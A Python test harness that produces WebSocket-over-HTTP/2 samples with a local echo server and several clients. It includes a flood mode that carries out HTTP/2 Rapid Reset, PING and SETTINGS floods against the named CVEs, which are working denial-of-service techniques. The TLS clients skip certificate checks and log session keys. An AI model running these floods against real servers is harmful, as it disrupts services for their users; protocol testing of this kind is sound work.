#!/usr/bin/env python3
"""WebSockets over cleartext HTTP/2 (RFC 8441) for samples/generate-h2.sh.

Servers and clients, each bounded in time:

    h2ws.py hypercorn --port 18201          # hypercorn serving an ASGI WebSocket echo over h2c
    h2ws.py nosetting --port 18202          # an h2 server whose SETTINGS do not enable CONNECT
    h2ws.py client --port 18201 --ending end_stream|cancel [--streams N]
    h2ws.py hypercorn --port 18211 --cert C --key K   # the same over TLS (ALPN h2), serving
                                                      # also a page that opens a WebSocket
    h2ws.py client --port 18211 --tls --keylog FILE   # the client over TLS, ALPN h2
    h2ws.py h1client --port 18224                     # a classic HTTP/1.1 Upgrade client
    h2ws.py h1client --port 18215 --tls --alpn h2,http/1.1 --keylog FILE
                                                      # the same over TLS, offering h2 first
    h2ws.py goaway --port 18207                       # a WebSocket stream held open across
                                                      # the server's GOAWAY
    h2ws.py violate --port 18226                      # a WebSocket stream, then a frame the
                                                      # server must answer with GOAWAY
                                                      # PROTOCOL_ERROR
    h2ws.py flood --port 18204 --kind rapid-reset|ping|settings --count N
                                                      # a WebSocket stream, then a flood on
                                                      # its connection

The client speaks HTTP/2 with prior knowledge (python `h2`), waits for the server's SETTINGS,
sends an extended CONNECT per stream (:protocol websocket, sec-websocket-version 13, an Origin),
and on a 200 sends RFC 6455 frames in DATA: a text message, then a Close 1000; after the
server's Close it ends the stream the way browsers do (END_STREAM, or RST_STREAM CANCEL).
"""

import argparse
import asyncio
import os
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings


def log(*a):
    print("[h2ws]", *a, file=sys.stderr, flush=True)


# ------------------------------------------------------------------ servers
# The page a browser loads over https: it opens a WebSocket to the same origin (so, when the
# server's SETTINGS enable extended CONNECT, as a stream of the same h2 connection), sends a
# message, closes after the echo with 1000, and writes what happened into the page.
PAGE = b"""<!doctype html><title>h2 ws</title><pre id=out>start</pre><script>
const out = document.getElementById('out');
const say = (t) => { out.textContent += ' ' + t; };
const ws = new WebSocket('wss://' + location.host + '/chat');
ws.onopen = () => { say('open'); ws.send('hello from the browser'); };
ws.onmessage = (e) => { say('echo:' + e.data); ws.close(1000, 'bye'); };
ws.onclose = (e) => { say('closed:' + e.code); document.title = 'done'; };
ws.onerror = () => say('error');
</script>"""

async def echo_app(scope, receive, send):
    if scope["type"] == "lifespan":
        while True:
            msg = await receive()
            if msg["type"] == "lifespan.startup":
                await send({"type": "lifespan.startup.complete"})
            elif msg["type"] == "lifespan.shutdown":
                await send({"type": "lifespan.shutdown.complete"})
                return
    if scope["type"] == "http" and scope["path"] == "/":
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/html; charset=utf-8")]})
        await send({"type": "http.response.body", "body": PAGE})
        return
    if scope["type"] == "websocket" and scope["path"] == "/refused":
        # ASGI's WebSocket denial response: a 403 with a body instead of the accept.
        await send({"type": "websocket.http.response.start", "status": 403,
                    "headers": [(b"content-type", b"text/plain")]})
        await send({"type": "websocket.http.response.body", "body": b"origin not allowed here"})
        return
    if scope["type"] != "websocket":
        await send({"type": "http.response.start", "status": 404, "headers": []})
        await send({"type": "http.response.body", "body": b"no"})
        return
    msg = await receive()
    if msg["type"] != "websocket.connect":
        return
    await send({"type": "websocket.accept"})
    while True:
        msg = await receive()
        if msg["type"] == "websocket.receive":
            await send({"type": "websocket.send", "text": msg.get("text") or "", "bytes": msg.get("bytes")})
        else:
            # generate-h2.sh waits for this line before it stops a browser.
            log("websocket closed:", scope["path"], msg.get("code"))
            return


def run_hypercorn(port, lifetime, cert=None, key=None):
    from hypercorn.asyncio import serve
    from hypercorn.config import Config

    config = Config()
    config.bind = [f"127.0.0.1:{port}"]
    if cert:
        # ALPN offers h2 first (hypercorn's default alpn_protocols: h2, http/1.1).
        config.certfile, config.keyfile = cert, key
    config.loglevel = "WARNING"
    shutdown = asyncio.Event()

    async def main():
        async def stop_later():
            await asyncio.sleep(lifetime)
            shutdown.set()

        asyncio.ensure_future(stop_later())
        await serve(echo_app, config, shutdown_trigger=shutdown.wait)

    asyncio.run(main())


def run_nosetting(port, lifetime):
    """An h2 server that never enables extended CONNECT: it answers a CONNECT with
    :protocol by resetting the stream (PROTOCOL_ERROR), as RFC 8441 §4 allows."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", port))
    srv.listen(4)
    srv.settimeout(lifetime)
    deadline = time.time() + lifetime
    while time.time() < deadline:
        try:
            sock, _ = srv.accept()
        except socket.timeout:
            return
        sock.settimeout(5)
        conn = h2.connection.H2Connection(
            config=h2.config.H2Configuration(client_side=False, validate_inbound_headers=False)
        )
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.RequestReceived):
                        conn.reset_stream(ev.stream_id, error_code=1)
                sock.sendall(conn.data_to_send())
        except Exception as e:  # the peer went away, or h2 refused its bytes
            log("nosetting:", type(e).__name__, e)
        finally:
            sock.close()


# ------------------------------------------------------------------ client
def ws_frame(opcode, payload, mask=True):
    head = bytes([0x80 | opcode])
    n = len(payload)
    if n < 126:
        head += bytes([(0x80 if mask else 0) | n])
    else:
        head += bytes([(0x80 if mask else 0) | 126]) + struct.pack("!H", n)
    if not mask:
        return head + payload
    key = os.urandom(4)
    return head + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))


def run_client(port, ending, streams, tls=False, keylog=None, path="/chat", upgrade=False):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    scheme = "http"
    if tls:
        import ssl
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        if keylog:
            ctx.keylog_filename = keylog
        sock = ctx.wrap_socket(sock, server_hostname="localhost")
        log("ALPN:", sock.selected_alpn_protocol())
        scheme = "https"
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False)
    conn = h2.connection.H2Connection(config=config)
    early = []  # events from bytes that came with the 101
    if upgrade:
        # HTTP/1.1 first, then HTTP/2 on the same connection after the 101 (RFC 7540 §3.2;
        # RFC 9113 deprecates it, hypercorn still serves it): the upgraded GET / is stream 1.
        settings = conn.initiate_upgrade_connection()
        sock.sendall((f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                      "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                      f"HTTP2-Settings: {settings.decode()}\r\n\r\n").encode())
        buf = b""
        while b"\r\n\r\n" not in buf:
            chunk = sock.recv(65536)
            if not chunk:
                break
            buf += chunk
        head, _, rest = buf.partition(b"\r\n\r\n")
        log("upgrade:", head.split(b"\r\n", 1)[0].decode(errors="replace"))
        sock.sendall(conn.data_to_send())
        if rest:
            early = conn.receive_data(rest)
            sock.sendall(conn.data_to_send())
    else:
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())

    def pump(until, seconds=3.0):
        end = time.time() + seconds
        events = []
        while time.time() < end and not until(events):
            try:
                data = sock.recv(65536)
            except socket.timeout:
                break
            if not data:
                break
            events.extend(conn.receive_data(data))
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        return events

    # The server's SETTINGS come first (RFC 9113 §3.4).
    pump(lambda evs: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in early + evs))
    enabled = conn.remote_settings.get(h2.settings.SettingCodes.ENABLE_CONNECT_PROTOCOL, 0)
    log("server ENABLE_CONNECT_PROTOCOL =", enabled)
    ids = []
    for i in range(streams):
        sid = conn.get_next_available_stream_id()
        ids.append(sid)
        conn.send_headers(sid, [
            (":method", "CONNECT"),
            (":protocol", "websocket"),
            (":scheme", scheme),
            (":path", f"{path}/{i}" if path == "/chat" else path),
            (":authority", f"127.0.0.1:{port}"),
            ("sec-websocket-version", "13"),
            ("origin", f"{scheme}://127.0.0.1:{port}"),
        ])
        sock.sendall(conn.data_to_send())
        time.sleep(0.05)
    answered = {}
    seen = set()  # pump hands the whole list each time: log each event once

    def all_answered(evs):
        for e in evs:
            if id(e) in seen:
                continue
            seen.add(id(e))
            if isinstance(e, h2.events.ResponseReceived) and e.stream_id not in answered:
                status = dict(e.headers).get(b":status")
                log(f"stream {e.stream_id}: status {status.decode()}")
                answered[e.stream_id] = status
            if isinstance(e, h2.events.StreamReset):
                log(f"stream {e.stream_id}: reset, error code {int(e.error_code)}")
                answered[e.stream_id] = b"reset"
        return all(s in answered for s in ids)

    # A proxy whose backend is down answers only after its connect retries (HAProxy: 3 s).
    pump(all_answered, 6.0)
    log("answers:", answered)
    opened = [s for s in ids if answered.get(s) == b"200"]
    for sid in opened:
        conn.send_data(sid, ws_frame(0x1, f"hello on {sid}".encode()))
    sock.sendall(conn.data_to_send())
    pump(lambda evs: sum(isinstance(e, h2.events.DataReceived) for e in evs) >= len(opened), 2)
    time.sleep(0.05)
    for sid in opened:
        close = ws_frame(0x8, struct.pack("!H", 1000) + b"bye")
        # END_STREAM on the DATA frame carrying the Close, or RST_STREAM CANCEL after the
        # server's Close (what Chromium 156 and Firefox 153 do when the server does not end
        # its side: samples/h2tls/).
        conn.send_data(sid, close, end_stream=(ending == "end_stream"))
    sock.sendall(conn.data_to_send())
    pump(lambda evs: sum(isinstance(e, h2.events.DataReceived) for e in evs) >= len(opened), 2)
    time.sleep(0.05)
    if ending == "cancel":
        for sid in opened:
            conn.reset_stream(sid, error_code=8)
    conn.close_connection()
    sock.sendall(conn.data_to_send())
    time.sleep(0.1)
    sock.close()


def _open_websocket(port, rcvbuf=None):
    """A prior-knowledge h2c connection with one WebSocket stream (extended CONNECT on stream
    1, a text message and its echo): (socket, connection, stream id), or exit on a refusal."""
    sock = socket.socket()
    if rcvbuf:
        # Set before connect, so the window TCP offers stays this small.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(5)
    sock.connect(("127.0.0.1", port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sid = conn.get_next_available_stream_id()
    got = _pump(sock, conn, lambda e: isinstance(e, h2.events.RemoteSettingsChanged))
    conn.send_headers(sid, [
        (":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"),
        (":path", "/chat"), (":authority", f"127.0.0.1:{port}"),
        ("sec-websocket-version", "13"), ("origin", f"http://127.0.0.1:{port}"),
    ])
    sock.sendall(conn.data_to_send())
    got = _pump(sock, conn, lambda e: isinstance(e, (h2.events.ResponseReceived,
                                                      h2.events.StreamReset)))
    status = [dict(e.headers).get(b":status") for e in got
              if isinstance(e, h2.events.ResponseReceived)]
    log("stream", sid, "status", status)
    if status != [b"200"]:
        raise SystemExit("the WebSocket was refused")
    conn.send_data(sid, ws_frame(0x1, b"hello before"))
    sock.sendall(conn.data_to_send())
    _pump(sock, conn, lambda e: isinstance(e, h2.events.DataReceived))
    return sock, conn, sid


def _recv(sock):
    """The next bytes the peer sent; None (logged) at EOF, a timeout or a dropped connection."""
    try:
        data = sock.recv(65536)
    except (socket.timeout, ConnectionError) as e:
        log("read:", type(e).__name__)
        return None
    if not data:
        log("read: EOF")
        return None
    return data


def _pump(sock, conn, until, seconds=3.0):
    """Reads until an event `until` accepts (or EOF, or `seconds`); the events read, each
    logged when it is a GOAWAY or a reset."""
    end = time.time() + seconds
    events = []
    while time.time() < end:
        data = _recv(sock)
        if not data:
            break
        try:
            evs = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            log("h2 refused the server's bytes:", e)
            break
        for e in evs:
            if isinstance(e, h2.events.ConnectionTerminated):
                log(f"GOAWAY: error {int(e.error_code)} ({e.error_code.name}), last stream "
                    f"{e.last_stream_id}, debug {e.additional_data!r}")
        events.extend(evs)
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except (socket.timeout, ConnectionError):
                pass
        if any(until(e) for e in evs):
            break
    return events


def _close_websocket(sock, conn, sid):
    """Close 1000 with END_STREAM on it (Firefox's way), the server's Close, then GOAWAY."""
    conn.send_data(sid, ws_frame(0x8, struct.pack("!H", 1000) + b"bye"), end_stream=True)
    sock.sendall(conn.data_to_send())
    _pump(sock, conn, lambda e: isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)))
    conn.close_connection()
    sock.sendall(conn.data_to_send())
    time.sleep(0.1)
    sock.close()


def run_goaway_client(port, hold=False):
    """A WebSocket stream held open across the server's GOAWAY: after the first echo it
    prints "ready" and waits (up to 8 s) for the GOAWAY the script makes the server send;
    a GOAWAY whose last stream is at least this one leaves the stream to finish (RFC 9113
    §6.8), so it sends a second message on it, waits for the echo and closes 1000. python h2
    has no state for "GOAWAY received, streams still open" and refuses to send after one:
    its connection state is put back to open for that (its frames are still its own). With
    `hold` it sends nothing more and waits (up to 8 s) for the server to end the connection,
    as an idle WebSocket client would."""
    import h2.connection as hc
    sock, conn, sid = _open_websocket(port)
    log("ready")
    got = _pump(sock, conn, lambda e: isinstance(e, h2.events.ConnectionTerminated), 8.0)
    goaway = [e for e in got if isinstance(e, h2.events.ConnectionTerminated)]
    if not goaway:
        raise SystemExit("no GOAWAY")
    if goaway[0].last_stream_id < sid:
        raise SystemExit("the GOAWAY refused the open stream")
    conn.state_machine.state = hc.ConnectionState.CLIENT_OPEN
    if hold:
        # Keep the stream open, sending nothing, until the server drops the connection.
        got = _pump(sock, conn, lambda e: False, 8.0)
        log("after the GOAWAY:", [type(e).__name__ for e in got])
        sock.close()
        return
    conn.send_data(sid, ws_frame(0x1, b"hello after the GOAWAY"))
    sock.sendall(conn.data_to_send())
    got = _pump(sock, conn, lambda e: isinstance(e, h2.events.DataReceived))
    log("echo after the GOAWAY:", [e.data for e in got if isinstance(e, h2.events.DataReceived)])
    _close_websocket(sock, conn, sid)


def run_violating_client(port):
    """A WebSocket stream (extended CONNECT, a text message and its echo), then a
    WINDOW_UPDATE on stream 0 with an increment of 0, which RFC 9113 §6.9 makes a connection
    error (PROTOCOL_ERROR): the client's bug, the server's real answer, a GOAWAY with an
    error code while the WebSocket is open. The frame is written to the socket by hand
    (python h2 refuses to send it); what the server sends after it is read as raw frames
    (python h2 stops at the GOAWAY and refuses what follows it) until the server ends the
    connection (at most 5 s), each GOAWAY and RST_STREAM logged."""
    sock, conn, sid = _open_websocket(port)
    log("ready")
    # length 4, type WINDOW_UPDATE (0x8), no flags, stream 0, increment 0
    sock.sendall(struct.pack("!I", 4)[1:] + bytes([0x8, 0]) + struct.pack("!II", 0, 0))
    buf = b""
    end = time.time() + 5.0
    while time.time() < end:
        data = _recv(sock)
        if not data:
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, stream = buf[3], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            body, buf = buf[9:9 + length], buf[9 + length:]
            if kind == 0x7 and length >= 8:
                last, code = struct.unpack("!II", body[:8])
                log(f"GOAWAY: error {code} ({h2.errors.ErrorCodes(code).name}), last stream "
                    f"{last & 0x7FFFFFFF}, debug {body[8:]!r}")
            elif kind == 0x3 and length == 4:
                code = struct.unpack("!I", body)[0]
                log(f"RST_STREAM: stream {stream}, error {code} "
                    f"({h2.errors.ErrorCodes(code).name})")
    sock.close()


def run_flood_client(port, kind, count):
    """Opens a WebSocket stream, then floods the connection it rides on, as an attacker's
    client would (the server's reaction is the real part): `rapid-reset` opens `count`
    requests (GET /, END_STREAM) and cancels each at once (RST_STREAM CANCEL, CVE-2023-44487);
    `ping` and `settings` send `count` PINGs or empty SETTINGS without reading their ACKs,
    from a socket whose receive buffer is 4 KiB so the server's answers queue on its side
    (CVE-2019-9512, CVE-2019-9515). Then it reads what the server did for 3 s and, if the
    connection still stands, closes the WebSocket."""
    sock, conn, sid = _open_websocket(port, rcvbuf=4096 if kind != "rapid-reset" else None)
    sent = 0
    try:
        for i in range(count):
            if kind == "rapid-reset":
                s = conn.get_next_available_stream_id()
                conn.send_headers(s, [(":method", "GET"), (":scheme", "http"), (":path", "/"),
                                      (":authority", f"127.0.0.1:{port}")], end_stream=True)
                conn.reset_stream(s, error_code=8)
            elif kind == "ping":
                conn.ping(struct.pack("!Q", i))
            else:
                conn.update_settings({})
            if i % 100 == 99:
                sock.sendall(conn.data_to_send())
            sent = i + 1
        sock.sendall(conn.data_to_send())
    except (socket.timeout, ConnectionError, h2.exceptions.ProtocolError) as e:
        log(f"after {sent} of {count}:", type(e).__name__, e)
    log(f"{kind}: sent {sent}")
    got = _pump(sock, conn, lambda e: isinstance(e, h2.events.ConnectionTerminated), 3.0)
    acks = sum(isinstance(e, (h2.events.PingAckReceived, h2.events.SettingsAcknowledged))
               for e in got)
    log(f"ACKs read: {acks}")
    if any(isinstance(e, h2.events.ConnectionTerminated) for e in got):
        sock.close()
        return
    try:
        _close_websocket(sock, conn, sid)
    except (socket.timeout, ConnectionError, h2.exceptions.ProtocolError) as e:
        log("close:", type(e).__name__, e)


def run_h1_client(port, path="/chat", tls=False, keylog=None, alpn=None):
    """A classic HTTP/1.1 Upgrade client (RFC 6455 §4.1): one text message, then a Close 1000
    after the echo, then the server's Close. Over TLS it offers the ALPN list given (a
    browser's is h2, http/1.1) and upgrades whatever the server selected, as long as that is
    not h2 (a server selecting http/1.1, or none, leaves HTTP/1.1 as the only way)."""
    import base64
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    scheme = "http"
    if tls:
        import ssl
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        if alpn:
            ctx.set_alpn_protocols(alpn)
        if keylog:
            ctx.keylog_filename = keylog
        sock = ctx.wrap_socket(sock, server_hostname="localhost")
        selected = sock.selected_alpn_protocol()
        log("ALPN offered:", alpn, "selected:", selected)
        if selected == "h2":
            sock.close()
            raise SystemExit("the server selected h2: no HTTP/1.1 upgrade on this connection")
        scheme = "https"
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall((f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
                  f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                  f"Sec-WebSocket-Version: 13\r\nOrigin: {scheme}://127.0.0.1:{port}\r\n\r\n").encode())
    buf = b""
    while b"\r\n\r\n" not in buf:
        chunk = sock.recv(65536)
        if not chunk:
            break
        buf += chunk
    head, _, rest = buf.partition(b"\r\n\r\n")
    status = head.split(b"\r\n", 1)[0].decode(errors="replace")
    log("status:", status)
    if " 101 " not in status + " ":
        sock.close()
        return

    def frames(n, rest):
        got = []
        buf = rest
        while len(got) < n:
            while len(buf) >= 2:
                ln = buf[1] & 0x7F
                off = 2
                if ln == 126:
                    ln = struct.unpack("!H", buf[2:4])[0]
                    off = 4
                if len(buf) < off + ln:
                    break
                got.append((buf[0] & 0x0F, buf[off:off + ln]))
                buf = buf[off + ln:]
                if len(got) == n:
                    return got, buf
            chunk = sock.recv(65536)
            if not chunk:
                break
            buf += chunk
        return got, buf

    sock.sendall(ws_frame(0x1, b"hello over http/1.1"))
    got, rest = frames(1, rest)
    log("echo:", got and got[0][1])
    sock.sendall(ws_frame(0x8, struct.pack("!H", 1000) + b"bye"))
    got, rest = frames(1, rest)
    log("server close:", got and struct.unpack("!H", got[0][1][:2])[0])
    time.sleep(0.05)
    sock.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["hypercorn", "nosetting", "client", "h1client", "goaway",
                                     "violate", "flood"])
    ap.add_argument("--kind", choices=["rapid-reset", "ping", "settings"], default="ping")
    ap.add_argument("--count", type=int, default=2000)
    ap.add_argument("--hold", action="store_true",
                    help="goaway: keep the stream open and idle after the GOAWAY")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--lifetime", type=float, default=30)
    ap.add_argument("--ending", choices=["end_stream", "cancel"], default="end_stream")
    ap.add_argument("--streams", type=int, default=1)
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--keylog")
    ap.add_argument("--path", default="/chat")
    ap.add_argument("--alpn", help="comma-separated ALPN offer (h1client over --tls)")
    ap.add_argument("--upgrade", action="store_true",
                    help="client: start HTTP/1.1 and switch with Upgrade: h2c")
    a = ap.parse_args()
    if a.mode == "hypercorn":
        run_hypercorn(a.port, a.lifetime, a.cert, a.key)
    elif a.mode == "nosetting":
        run_nosetting(a.port, a.lifetime)
    elif a.mode == "goaway":
        run_goaway_client(a.port, a.hold)
    elif a.mode == "violate":
        run_violating_client(a.port)
    elif a.mode == "flood":
        run_flood_client(a.port, a.kind, a.count)
    elif a.mode == "h1client":
        run_h1_client(a.port, a.path, a.tls, a.keylog, a.alpn.split(",") if a.alpn else None)
    else:
        run_client(a.port, a.ending, a.streams, a.tls, a.keylog, a.path, a.upgrade)


if __name__ == "__main__":
    main()
